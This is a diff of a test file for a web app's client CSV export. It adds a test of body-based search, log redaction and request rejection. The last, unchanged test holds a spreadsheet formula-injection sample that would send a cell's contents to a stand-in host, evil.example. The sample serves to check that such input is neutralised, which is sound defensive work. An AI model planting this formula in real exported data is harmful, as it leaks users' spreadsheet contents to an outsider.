@@ -59,6 +59,27 @@ test('the export holds what the current search shows, in its order', async () =>
   expect(await firstNames(admin, '?sort=firstName&order=asc')).toEqual(['Ana', 'Ben', 'Cem']);
 });
 
+test('a search that comes in a body is exported and stands in no log line', async () => {
+  await using app = await startApp();
+  for (const firstName of ['Ben', 'Ana', 'Cem'])
+    await app.anyone.post('/api/clients', make.client({ firstName, email: `${firstName}@example.com` }));
+  const admin = await app.signInAsAdmin();
+  const exported = async (body: unknown) => {
+    const { status, text } = await admin.post(path, body);
+    return [status, ...text.trimEnd().split('\r\n').slice(1)].map((row) => String(row).split(',')[2] ?? row);
+  };
+  expect(await exported({ search: 'ana@exam' })).toEqual([200, 'Ana']);
+  expect(await exported({ sort: 'firstName' })).toEqual([200, 'Ana', 'Ben', 'Cem']);
+  expect(JSON.stringify(app.logged)).not.toContain('ana@exam');
+
+  expect((await admin.post(path, { sort: 'requestHash' })).status).toBe(400);
+  expect((await admin.post(path, [])).status).toBe(400);
+  const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
+  expect((await admin.send('POST', path, { body: 'search=ana', headers: form })).status).toBe(415);
+  expect((await app.anyone.post(path, {})).status).toBe(401);
+  expect((await admin.put(path, {})).headers.get('allow')).toBe('GET, HEAD, POST');
+});
+
 test('a formula that somebody sent is text in the file', async () => {
   await using app = await startApp();
   const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
